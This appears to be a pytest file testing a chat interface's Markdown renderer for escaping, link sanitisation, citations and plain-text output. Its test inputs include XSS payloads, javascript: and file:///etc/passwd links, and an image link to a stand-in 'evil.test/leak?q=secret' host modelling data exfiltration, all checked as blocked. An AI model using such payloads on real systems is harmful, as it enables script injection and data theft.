import pytest

from tests.spaces.chat.pages.conftest import page


@pytest.fixture(scope="module")
def markdown():
    return page("chat_markdown").Markdown()


def test_what_articles_are_written_in(markdown):
    html = markdown.html("# Returns\n\n- **30 days**\n- ~~40~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    for said in ('<p class="pz-md-head">Returns</p>', "<strong>30 days</strong>", "<s>40</s>", "<td>2</td>"):
        assert said in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <b onclick=alert(1)>b</b>",
        "```html\n<iframe src=x></iframe>\n```",
        "`<svg onload=alert(1)>`",
        "# <details open ontoggle=alert(1)>",
        "| <style>*{}</style> | b |\n|---|---|\n| </td></table><script> | 2 |",
    ],
)
def test_html_of_others_is_shown_as_text(markdown, text):
    html = markdown.html(text, 3)
    assert "&lt;" in html
    for tag in ("<script", "<img", "<b ", "<iframe", "<svg", "<details", "<style"):
        assert tag not in html


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "/chat",
        "//evil.test/x",
    ],
)
def test_links_that_lead_nowhere_good_are_none(markdown, address):
    assert "href" not in markdown.html(f"[here]({address})")
    assert "href" not in markdown.html(f"[here][1]\n\n[1]: {address}")


def test_an_address_that_is_none_is_no_link():
    assert page("chat_markdown")._safe("http://[bad") is False


def test_a_link_opens_elsewhere_and_tells_nothing(markdown):
    html = markdown.html('[here](https://shop.test/?a="b"&c) and <mailto:a@b.test>')
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in html
    assert '"b"' not in html


def test_a_picture_is_not_fetched(markdown):
    html = markdown.html("See ![the <b>map</b>](https://evil.test/leak?q=secret) there, ![](https://evil.test/)")
    assert "<img" not in html
    assert "evil.test" not in html
    assert "the &lt;b&gt;map&lt;/b&gt;" in html


def test_a_number_in_brackets_opens_a_source_that_is_there(markdown):
    html = markdown.html("So [1] and [2], not [3] or [0] or [99], nor `[1]`", 2)
    assert html.count("pz-chat-cite") == 2
    assert 'data-cite="2" aria-label="Source 2"' in html
    assert "[3] or [0] or [99]" in html
    assert "pz-chat-cite" not in markdown.html("So [1]")


def test_without_its_marks_it_is_one_line(markdown):
    assert (
        markdown.plain("You have **30 days**:\n\n1. Print *it* & go\n2. <b>x</b>")
        == "You have 30 days: Print it & go <b>x</b>"
    )
